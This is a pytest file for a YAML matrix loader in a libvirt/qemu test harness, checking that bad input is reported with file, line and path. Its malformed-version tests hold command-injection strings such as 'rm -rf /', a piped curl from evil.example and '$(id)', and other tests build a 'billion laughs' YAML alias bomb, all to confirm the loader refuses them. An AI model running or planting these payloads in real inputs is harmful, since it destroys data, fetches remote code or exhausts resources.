"""harness.matrix.load: a matrix loads into cells; every bad input is a ConfigurationError naming file, line and path."""

from __future__ import annotations

import time
import typing

import pytest

from harness.core import model
from harness.core.errors import ConfigurationError
from harness.matrix.load import MAX_BYTES, load, parse

# The cells of tests/unit/data/matrix.yaml, in its order.
UNIT_IDS = [
    "debian-12-release",
    "debian-12-backports",
    "debian-13-release",
    "debian-13-release-qemu-backports",
    "ubuntu-24.04-release",
    "ubuntu-24.04-cloud-archive-epoxy",
    "debian-12-plain",
]


def line_of(text: str, needle: str) -> int:
    """The 1-based line of the one line of `text` that contains `needle`."""
    hits = [number for number, line in enumerate(text.splitlines(), 1) if needle in line]
    assert len(hits) == 1, f"{needle!r} is on lines {hits} of:\n{text}"
    return hits[0]


def problem_at(problems: list[str], path: str) -> str:
    """The one problem reported for a YAML path."""
    hits = [p for p in problems if p.split(": ", 2)[1:2] == [path]]
    assert len(hits) == 1, f"no single problem at {path!r}: {problems}"
    return hits[0]


def rename_key(mapping: dict, old: str, new: str) -> None:
    mapping[new] = mapping.pop(old)


def versions(cell) -> dict[str, tuple[str, str]]:
    return {c.component: (c.version, c.source_name) for c in cell.components}


# --- a whole matrix --------------------------------------------------------------------------


def test_matrix_expands_to_its_cells_in_order(unit_matrix):
    matrix, cells = unit_matrix
    assert [cell.id for cell in cells] == UNIT_IDS
    assert matrix.scenarios == tuple(unit_data_scenarios())
    assert set(matrix.scenarios) <= set(model.SCENARIOS)
    assert all(cell.scenarios == matrix.scenarios for cell in cells)
    assert all(cell.template is None for cell in cells)
    assert set(matrix.thresholds) == {"min", "next-min"}


def test_single_source_cell(cell_by_id):
    backports = cell_by_id["debian-12-backports"]
    assert backports.base_name == "debian-12"
    assert backports.base.codename == "bookworm"
    assert backports.source_name == "backports"
    assert [name for name, _ in backports.sources] == ["backports"]
    assert backports.sources[0][1].suite == "{codename}-backports"
    assert versions(backports) == {
        "libvirt": ("latest", "backports"),
        "qemu": ("latest", "backports"),
    }
    assert cell_by_id["debian-13-release"].base.codename == "trixie"


def test_mixed_source_cell_lists_each_source_once(cell_by_id):
    cell = cell_by_id["debian-13-release-qemu-backports"]
    assert cell.source_name == "release"
    # The cell's own source first, then the sources its components add.
    assert [name for name, _ in cell.sources] == ["release", "backports"]
    assert versions(cell) == {"libvirt": ("latest", "release"), "qemu": ("latest", "backports")}


def test_cloud_archive_cell(cell_by_id):
    cell = cell_by_id["ubuntu-24.04-cloud-archive-epoxy"]
    assert (cell.base.distro, cell.base.codename) == ("ubuntu", "noble")
    ((name, source),) = cell.sources
    assert name == "cloud-archive-epoxy"
    assert (source.cloud_archive, source.suite, source.uri) == ("epoxy", None, None)


def test_explicit_id_replaces_the_default_one(cell_by_id):
    cell = cell_by_id["debian-12-plain"]
    assert (cell.base_name, cell.source_name) == ("debian-12", "image")
    assert "debian-12-image" not in cell_by_id


def test_matrix_loads_from_file(unit_matrix_path, unit_matrix):
    matrix, cells = load(unit_matrix_path)
    assert matrix == unit_matrix[0]
    assert cells == unit_matrix[1]


def test_scenario_literal_lists_the_scenarios_in_order():
    assert typing.get_args(model.Scenario) == model.SCENARIOS


def test_exact_version_names_the_cell(matrix_text, cells_of):
    text = matrix_text(lambda d: d["cells"][1].update(libvirt="9.0.0-4+deb12u2"))
    ids = [cell.id for cell in cells_of(text)]
    assert ids[1] == "debian-12-backports-libvirt-9.0.0-4_deb12u2"
    assert ids[:1] + ids[2:] == UNIT_IDS[:1] + UNIT_IDS[2:]


def test_exact_version_with_epoch_and_tilde_names_the_cell(matrix_text, cells_of):
    text = matrix_text(lambda d: d["cells"][3].update(qemu="1:9.2.2+ds-1~bpo12+1"))
    cell = cells_of(text)[3]
    # ':' '+' '~' cannot be in a cell id; the version itself is kept as it is.
    assert cell.id == "debian-13-release-qemu-1_9.2.2_ds-1_bpo12_1"
    assert versions(cell)["qemu"] == ("1:9.2.2+ds-1~bpo12+1", "release")


# --- unknown keys, with "did you mean" wherever the model is known ----------------------------

UNKNOWN_KEYS = {
    "top level": (lambda d: rename_key(d, "cells", "cell"), "cell", "cells"),
    "cell": (lambda d: rename_key(d["cells"][2], "base", "bsae"), "cells[2].bsae", "base"),
    "cell component": (
        lambda d: d["cells"][1].update(libvirt={"verison": "latest"}),
        "cells[1].libvirt.verison",
        "version",
    ),
    "base": (
        lambda d: rename_key(d["bases"]["debian-13"], "distro", "distor"),
        "bases.debian-13.distor",
        "distro",
    ),
    "source": (
        lambda d: rename_key(d["sources"]["backports"], "suite", "siute"),
        "sources.backports.siute",
        "suite",
    ),
    "policy": (lambda d: rename_key(d["policy"], "runs", "rnus"), "policy.rnus", "runs"),
    "guest": (lambda d: rename_key(d["guest"], "base", "bsae"), "guest.bsae", "base"),
}


@pytest.mark.parametrize(("edit", "path", "suggestion"), UNKNOWN_KEYS.values(), ids=UNKNOWN_KEYS)
def test_unknown_key_suggests_the_known_one(matrix_text, problems_of, edit, path, suggestion):
    text = matrix_text(edit)
    key = path.rsplit(".", 1)[-1]
    problem = problem_at(problems_of(text), path)
    # The line is the line of the misspelt key itself.
    assert problem.startswith(f"matrix.yaml:{line_of(text, f'{key}:')}: {path}: ")
    assert f"unknown key {key!r}" in problem
    assert f"did you mean {suggestion!r}?" in problem


def test_unknown_key_without_close_match_has_no_suggestion(matrix_text, problems_of):
    text = matrix_text(lambda d: d["policy"].update(colour="blue"))
    problem = problem_at(problems_of(text), "policy.colour")
    assert problem == f"matrix.yaml:{line_of(text, 'colour:')}: policy.colour: unknown key 'colour'"


# --- values ----------------------------------------------------------------------------------


def test_wrong_type(matrix_text, problems_of):
    text = matrix_text(lambda d: d["policy"].update(runs="many"))
    problem = problem_at(problems_of(text), "policy.runs")
    assert problem.startswith(f"matrix.yaml:{line_of(text, 'runs: many')}: policy.runs: ")
    assert "integer" in problem
    assert "'many'" in problem


def test_unknown_base_suggests_the_known_one(matrix_text, problems_of):
    text = matrix_text(lambda d: d["cells"][2].update(base="debain-12"))
    problem = problem_at(problems_of(text), "cells[2].base")
    assert problem == (
        f"matrix.yaml:{line_of(text, 'base: debain-12')}: cells[2].base: "
        "unknown base 'debain-12' (did you mean 'debian-12'?)"
    )


def test_unknown_guest_base(matrix_text, problems_of):
    text = matrix_text(lambda d: d["guest"].update(base="debian-11"))
    problem = problem_at(problems_of(text), "guest.base")
    assert "unknown base 'debian-11'" in problem


def test_cloud_archive_source_needs_an_ubuntu_base(matrix_text, problems_of):
    def edit(data):
        data["sources"]["cloud-archive-caracal"] = {"cloud_archive": "caracal"}
        data["cells"][0]["source"] = "cloud-archive-caracal"

    text = matrix_text(edit)
    problem = problem_at(problems_of(text), "cells[0].source")
    assert problem == (
        f"matrix.yaml:{line_of(text, 'source: cloud-archive-caracal')}: cells[0].source: "
        "a cloud_archive source needs an ubuntu base"
    )


@pytest.mark.parametrize(
    "extra",
    [{"suite": "{codename}-updates"}, {"suite": "x", "uri": "http://archive.example.org/ubuntu"}],
)
def test_cloud_archive_source_takes_no_suite(matrix_text, problems_of, extra):
    text = matrix_text(lambda d: d["sources"]["cloud-archive-epoxy"].update(extra))
    problem = problem_at(problems_of(text), "sources.cloud-archive-epoxy")
    assert problem == (
        f"matrix.yaml:{line_of(text, 'cloud-archive-epoxy:')}: sources.cloud-archive-epoxy: "
        "a cloud_archive source takes no suite (uri: its mirror)"
    )


def test_cloud_archive_source_takes_a_mirror(matrix_text, cells_of):
    mirror = "http://mirror.invalid/ubuntu-cloud-archive"
    text = matrix_text(lambda d: d["sources"]["cloud-archive-epoxy"].update(uri=mirror))
    cell = next(c for c in cells_of(text) if c.id == "ubuntu-24.04-cloud-archive-epoxy")
    assert dict(cell.sources)["cloud-archive-epoxy"].uri == mirror


@pytest.mark.parametrize("pocket", ["Epoxy", "epoxy-updates", "epoxy; reboot", ""])
def test_malformed_cloud_archive_pocket(matrix_text, problems_of, pocket):
    text = matrix_text(lambda d: d["sources"]["cloud-archive-epoxy"].update(cloud_archive=pocket))
    problem = problem_at(problems_of(text), "sources.cloud-archive-epoxy.cloud_archive")
    assert "should match pattern" in problem


@pytest.mark.parametrize(
    ("edit", "path"),
    [
        (lambda d: d["cells"][1].update(source="backprots"), "cells[1].source"),
        (lambda d: d["cells"][0].update(qemu={"source": "backprots"}), "cells[0].qemu.source"),
    ],
    ids=["cell", "component"],
)
def test_unknown_source_suggests_the_known_one(matrix_text, problems_of, edit, path):
    text = matrix_text(edit)
    problem = problem_at(problems_of(text), path)
    assert problem.startswith(f"matrix.yaml:{line_of(text, 'backprots')}: {path}: ")
    assert "unknown source 'backprots' (did you mean 'backports'?)" in problem


@pytest.mark.parametrize(
    "version",
    ["9.0.0; rm -rf /", "9.0.0\nRUN curl http://evil.example | sh", "{{ x }}", "$(id)", ""],
    ids=["shell", "newline", "jinja", "substitution", "empty"],
)
@pytest.mark.parametrize("component", ["libvirt", "qemu"])
def test_malformed_version_is_refused(matrix_text, problems_of, component, version):
    text = matrix_text(lambda d: d["cells"][1].update({component: {"version": version}}))
    path = f"cells[1].{component}.version"
    problem = problem_at(problems_of(text), path)
    assert problem.startswith(f"matrix.yaml:{line_of(text, 'version:')}: {path}: ")
    assert "is not a version" in problem
    assert "\n" not in problem  # one problem, one line, whatever the value holds


def test_malformed_version_in_short_form(matrix_text, problems_of):
    text = matrix_text(lambda d: d["cells"][2].update(qemu="{{ x }}"))
    problem = problem_at(problems_of(text), "cells[2].qemu.version")
    line = line_of(text, "qemu: '{{ x }}'")
    assert problem.startswith(f"matrix.yaml:{line}: cells[2].qemu.version: ")


def test_malformed_threshold_version(matrix_text, problems_of):
    text = matrix_text(lambda d: d["thresholds"]["min"].update(libvirt="8.0; reboot"))
    problem = problem_at(problems_of(text), "thresholds.min.libvirt")
    assert "is not a version" in problem


def test_unknown_scenario_suggests_the_known_one(matrix_text, problems_of):
    text = matrix_text(lambda d: d["scenarios"].__setitem__(1, "reboto"))
    problem = problem_at(problems_of(text), "scenarios[1]")
    assert problem.startswith(f"matrix.yaml:{line_of(text, '- reboto')}: scenarios[1]: ")
    assert "'reboto' is not one of" in problem
    assert "did you mean 'reboot'?" in problem


def test_unknown_scenario_in_a_cell(matrix_text, problems_of):
    text = matrix_text(lambda d: d["cells"][0].update(scenarios=["boot", "managed-sav"]))
    problem = problem_at(problems_of(text), "cells[0].scenarios[1]")
    assert "did you mean 'managed-save'?" in problem


# --- structure -------------------------------------------------------------------------------


def test_duplicate_key(matrix_text, problems_of):
    text = matrix_text() + "accel: tcg\n"
    first, second = line_of(text, "accel: auto"), line_of(text, "accel: tcg")
    assert problems_of(text) == [
        f"matrix.yaml:{second}: accel: duplicate key (first at line {first})"
    ]


def test_duplicate_nested_key(problems_of, matrix_text):
    text = matrix_text().replace("codename: trixie\n", "codename: trixie\n    codename: sid\n")
    problem = problem_at(problems_of(text), "bases.debian-13.codename")
    assert problem.startswith(f"matrix.yaml:{line_of(text, 'codename: sid')}: ")
    assert f"duplicate key (first at line {line_of(text, 'codename: trixie')})" in problem


def test_duplicate_cell_id(matrix_text, problems_of):
    text = matrix_text(lambda d: d["cells"].append(dict(d["cells"][0])))
    problem = problem_at(problems_of(text), f"cells[{len(UNIT_IDS)}]")
    assert "duplicate cell id 'debian-12-release' (also cells[0])" in problem
    assert "id:" in problem  # says how to fix it


def test_explicit_id_equal_to_a_default_id(matrix_text, problems_of):
    text = matrix_text(lambda d: d["cells"][6].update(id="debian-12-backports"))
    problem = problem_at(problems_of(text), "cells[6]")
    assert "duplicate cell id 'debian-12-backports' (also cells[1])" in problem


def test_duplicate_id_set_explicitly(matrix_text, problems_of):
    def edit(data):
        data["cells"][0]["id"] = "twin"
        data["cells"][2]["id"] = "twin"

    problem = problem_at(problems_of(matrix_text(edit)), "cells[2]")
    assert "duplicate cell id 'twin'" in problem


def test_empty_cells_list(matrix_text, problems_of):
    text = matrix_text(lambda d: d.update(cells=[]))
    problem = problem_at(problems_of(text), "cells")
    assert problem.startswith(f"matrix.yaml:{line_of(text, 'cells:')}: cells: ")
    assert "at least 1" in problem


@pytest.mark.parametrize(
    "text", ["", "- bases\n- cells\n", "just words\n", "42\n", "~\n"], ids=repr
)
def test_document_that_is_not_a_mapping(problems_of, text):
    (problem,) = problems_of(text)
    assert problem.startswith("matrix.yaml")
    assert "must be a mapping" in problem


@pytest.mark.parametrize(
    ("text", "line", "path"),
    [
        ("bases: [\n", 2, "bases"),
        ("bases:\n  a: b\n c: d\n", 3, "(top level)"),
        ("bases:\n\t- debian-12\n", 2, "bases"),
        ('bases: {}\nsources: "unterminated\n', 3, "sources"),
        ("policy:\n  runs: 1\n  bad: line: here\n", 3, "policy"),
    ],
    ids=["unclosed", "indentation", "tab", "quote", "colon"],
)
def test_invalid_yaml_syntax(problems_of, text, line, path):
    (problem,) = problems_of(text)
    # The path is where the parser was when it gave up.
    assert problem.startswith(f"matrix.yaml:{line}: {path}: not valid YAML: ")


@pytest.mark.parametrize(
    "extra", ["? [a, b]\n: c\n", "? {a: 1}\n: c\n", "123: x\n"], ids=["list", "mapping", "int"]
)
def test_key_that_is_not_a_string(matrix_text, problems_of, extra):
    # A mapping key may be any YAML node; it must come back as a problem, not a crash.
    text = matrix_text() + extra
    problems = problems_of(text)
    line = line_of(text, extra.splitlines()[0])
    assert any(p.startswith(f"matrix.yaml:{line}: ") for p in problems), problems


def billion_laughs(levels: int = 9, width: int = 10) -> str:
    lines = ["a0: &a0 [" + ", ".join(["lol"] * width) + "]"]
    for level in range(1, levels):
        refs = ", ".join([f"*a{level - 1}"] * width)
        lines.append(f"a{level}: &a{level} [{refs}]")
    return "\n".join(lines) + "\n"


def test_alias_bomb_is_refused_before_expansion(problems_of):
    text = billion_laughs()  # 10**9 values once expanded, from 1 KB of text
    assert len(text) < 2000
    started = time.monotonic()
    (problem,) = problems_of(text)
    elapsed = time.monotonic() - started
    assert "too deeply nested or too large" in problem
    assert problem.startswith("matrix.yaml:")
    # Not a benchmark: an expanded bomb takes hours, a refused one well under a second.
    assert elapsed < 10, f"took {elapsed:.1f} s: the aliases were expanded"


def test_alias_bomb_inside_a_valid_matrix(matrix_text, problems_of):
    (problem,) = problems_of(matrix_text() + billion_laughs().replace("a0:", "x0:", 1))
    assert "too deeply nested or too large" in problem


def test_recursive_alias(matrix_text, problems_of):
    (problem,) = problems_of(matrix_text() + "loop: &loop [*loop]\n")
    assert "too deeply nested or too large" in problem


@pytest.mark.parametrize("depth", [40, 5000])
def test_deeply_nested_flow_yaml(problems_of, depth):
    (problem,) = problems_of("bases: " + "[" * depth + "]" * depth + "\n")
    assert problem.startswith("matrix.yaml")
    assert "too deeply nested" in problem


@pytest.mark.parametrize("depth", [40, 2000])
def test_deeply_nested_block_yaml(problems_of, depth):
    text = "".join("  " * i + f"k{i}:\n" for i in range(depth)) + "  " * depth + "leaf\n"
    (problem,) = problems_of(text)
    assert "too deeply nested" in problem


# --- several problems at once ----------------------------------------------------------------


def test_every_problem_is_reported_at_once(matrix_text, problems_of):
    def edit(data):
        data["cells"][2]["base"] = "debain-13"
        data["cells"][1]["libvirt"] = "9.0.0; rm -rf /"
        data["cells"][0]["colour"] = "blue"
        data["policy"]["runs"] = "many"
        data["scenarios"][0] = "bot"
        data["accel"] = "fast"

    text = matrix_text(edit) + "guest: {base: debian-12}\n"
    problems = problems_of(text)
    assert len(problems) >= 7, problems
    for path in (
        "cells[0].colour",
        "cells[1].libvirt.version",
        "cells[2].base",
        "scenarios[0]",
        "policy.runs",
        "accel",
    ):
        assert any(f": {path}: " in p for p in problems), (path, problems)
    assert any("duplicate key" in p for p in problems)
    # Each problem is one line "matrix.yaml:LINE: path: message", in the file's order.
    lines = []
    for problem in problems:
        assert "\n" not in problem
        filename, line, rest = problem.split(":", 2)
        assert filename == "matrix.yaml"
        assert line.isdigit(), problem
        assert rest.startswith(" ")
        lines.append(int(line))
    assert lines == sorted(lines)


def test_error_message_joins_the_problems(matrix_text):
    text = matrix_text(lambda d: d["policy"].update(runs="many"), lambda d: d.update(accel="x"))
    with pytest.raises(ConfigurationError) as info:
        parse(text)
    assert str(info.value).splitlines() == info.value.problems


# --- load(): reading the file ----------------------------------------------------------------


def test_load_names_the_file_it_read(tmp_path, matrix_text):
    path = tmp_path / "custom.yaml"
    text = matrix_text(lambda d: d["policy"].update(runs=0))
    path.write_text(text)
    with pytest.raises(ConfigurationError) as info:
        load(path)
    (problem,) = info.value.problems
    assert problem.startswith(f"{path}:{line_of(text, 'runs: 0')}: policy.runs: ")


def test_load_refuses_bytes_that_are_not_utf8(tmp_path, matrix_text):
    path = tmp_path / "matrix.yaml"
    raw = matrix_text().encode()
    path.write_bytes(raw + b"accel: \xff\xfe\n")
    with pytest.raises(ConfigurationError) as info:
        load(path)
    (problem,) = info.value.problems
    assert problem.startswith(f"{path}:{len(raw.splitlines()) + 1}: accel: ")
    assert "not UTF-8" in problem
    assert f"byte {len(raw) + len('accel: ')}" in problem


def test_load_missing_file(tmp_path):
    path = tmp_path / "nowhere.yaml"
    with pytest.raises(ConfigurationError, match="cannot read"):
        load(path)


def test_load_refuses_a_huge_file(tmp_path):
    path = tmp_path / "matrix.yaml"
    path.write_bytes(b"#" * (MAX_BYTES + 1))
    with pytest.raises(ConfigurationError, match="larger than"):
        load(path)


def test_threshold_must_be_a_version(matrix_text, problems_of):
    # 'latest' selects a package, but as a threshold it would be met by every version.
    text = matrix_text(lambda d: d["thresholds"]["min"].update(libvirt="latest"))
    problem = problem_at(problems_of(text), "thresholds.min.libvirt")
    assert "latest" in problem


def test_uri_source_needs_a_suite():
    import pytest as _pytest

    from harness.core.errors import ConfigurationError
    from harness.matrix.load import parse

    text = """
bases: {debian-12: {distro: debian, release: "12", codename: bookworm}}
sources: {mirror: {uri: "http://deb.example.org/debian"}}
cells: [{base: debian-12, source: mirror}]
"""
    with _pytest.raises(ConfigurationError) as caught:
        parse(text)
    assert "sources.mirror: a source with a uri needs a suite" in str(caught.value)


def test_a_staging_source_must_name_a_known_source(matrix_text, problems_of):
    def staged(data):
        data["sources"]["proposed"] = {"suite": "{codename}-proposed", "stages_for": "updatez"}

    (problem,) = problems_of(matrix_text(staged))
    assert "sources.proposed.stages_for: unknown source 'updatez'" in problem


def unit_data_scenarios():
    import yaml

    from tests.unit.conftest import UNIT_MATRIX

    return yaml.safe_load(UNIT_MATRIX.read_text())["scenarios"]
